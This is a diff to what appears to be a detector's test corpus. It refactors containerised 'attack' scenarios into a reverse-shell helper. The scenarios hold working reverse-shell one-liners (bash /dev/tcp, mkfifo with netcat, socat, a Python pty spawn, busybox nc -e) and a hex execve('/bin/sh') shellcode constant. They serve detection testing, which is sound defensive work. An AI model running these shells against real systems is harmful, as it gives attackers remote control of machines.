@@ -40,6 +40,24 @@ HTTP_SLOW = "GET /slow HTTP/1.1\r\nHost: corpus\r\n"
 BASH_REVERSE_SHELL = f"bash -i >& /dev/tcp/{HOST}/{PORT} 0>&1"
 SHELLCODE = "31c048bbd19d9691d08c97ff48f7db53545f995257545eb03b0f05"  # execve("/bin//sh"), x86-64
 
+
+def reverse_shell(  # noqa: PLR0917 - the columns of the reverse-shell rows, in order
+    name: str, summary: str, command: str, port: int, shell: P, allow: tuple[str, ...] = ()
+) -> S:
+    """A shell connected back to a listener on the host, which sends it `id`: ``command`` runs
+    beside the container's ``sleep infinity``. The shell's history is an allowed side effect."""
+    return S(
+        name,
+        "attack",
+        summary,
+        script=f"sleep infinity & {command}; wait",
+        ready="true",
+        listener=Listener(port, send="id\n"),
+        expect=(Expect("reverse-shell", shell, remote=REMOTE),),
+        allow=("shell-history", *allow),
+    )
+
+
 BENIGN = (
     S(
         "nginx-keepalive",
@@ -171,58 +189,45 @@ exec sleep infinity""",
 )
 
 ATTACKS = (
-    S(
+    reverse_shell(
         "revshell-bash-devtcp",
-        "attack",
         "bash -i with its stdio on /dev/tcp to a listener",
-        script=f"sleep infinity & {BASH_REVERSE_SHELL}; wait",
-        ready="true",
-        listener=Listener(4441, send="id\n"),
-        expect=(Expect("reverse-shell", P("bash", "^bash -i$"), remote=REMOTE),),
-        allow=("shell-history",),  # the listener's `id`, recovered from bash's heap
+        BASH_REVERSE_SHELL,
+        4441,
+        P("bash", "^bash -i$"),
     ),
-    S(
+    reverse_shell(
         "revshell-mkfifo-nc",
-        "attack",
         "sh -i between a fifo and netcat-openbsd (the classic relay)",
-        script=f"sleep infinity & rm -f /tmp/f; mkfifo /tmp/f; "
-        f"cat /tmp/f | sh -i 2>&1 | nc {HOST} {PORT} > /tmp/f; wait",
-        ready="true",
-        listener=Listener(4442, send="id\n"),
-        expect=(Expect("reverse-shell", P("sh", "^sh -i$"), remote=REMOTE),),
+        f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {HOST} {PORT} > /tmp/f",
+        4442,
+        P("sh", "^sh -i$"),
         allow=("network-tool", "stdio-socket"),
     ),
-    S(
+    reverse_shell(
         "revshell-socat-exec",
-        "attack",
         "socat connecting back and running bash on a pty",
-        script=f"sleep infinity & socat TCP:{HOST}:{PORT} "
-        "EXEC:'bash -li',pty,stderr,setsid,sigint,sane; wait",
-        ready="true",
-        listener=Listener(4443, send="id\n"),
-        expect=(Expect("reverse-shell", P("bash", "^bash -li$"), remote=REMOTE),),
-        allow=("network-tool", "stdio-socket", "shell-history"),
+        f"socat TCP:{HOST}:{PORT} EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
+        4443,
+        P("bash", "^bash -li$"),
+        allow=("network-tool", "stdio-socket"),
     ),
-    S(
+    reverse_shell(
         "revshell-python-pty",
-        "attack",
         "python dup2s a socket onto its stdio and pty.spawn()s bash",
-        script="sleep infinity & python3 -c 'import socket,os,pty;s=socket.socket();"
+        "python3 -c 'import socket,os,pty;s=socket.socket();"
         f's.connect(("{HOST}",{PORT}));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
-        'pty.spawn("/bin/bash")\'; wait',
-        ready="true",
-        listener=Listener(4444, send="id\n"),
-        expect=(Expect("reverse-shell", P("bash", "^/bin/bash$"), remote=REMOTE),),
-        allow=("stdio-socket", "shell-history"),
+        'pty.spawn("/bin/bash")\'',
+        4444,
+        P("bash", "^/bin/bash$"),
+        allow=("stdio-socket",),
     ),
-    S(
+    reverse_shell(
         "revshell-busybox-nc",
-        "attack",
         "busybox nc -e /bin/sh (nc execs the shell on the socket)",
-        script=f"sleep infinity & busybox nc {HOST} {PORT} -e /bin/sh; wait",
-        ready="true",
-        listener=Listener(4445, send="id\n"),
-        expect=(Expect("reverse-shell", P("sh", "^/bin/sh$"), remote=REMOTE),),
+        f"busybox nc {HOST} {PORT} -e /bin/sh",
+        4445,
+        P("sh", "^/bin/sh$"),
         allow=("network-tool",),
     ),
     S(
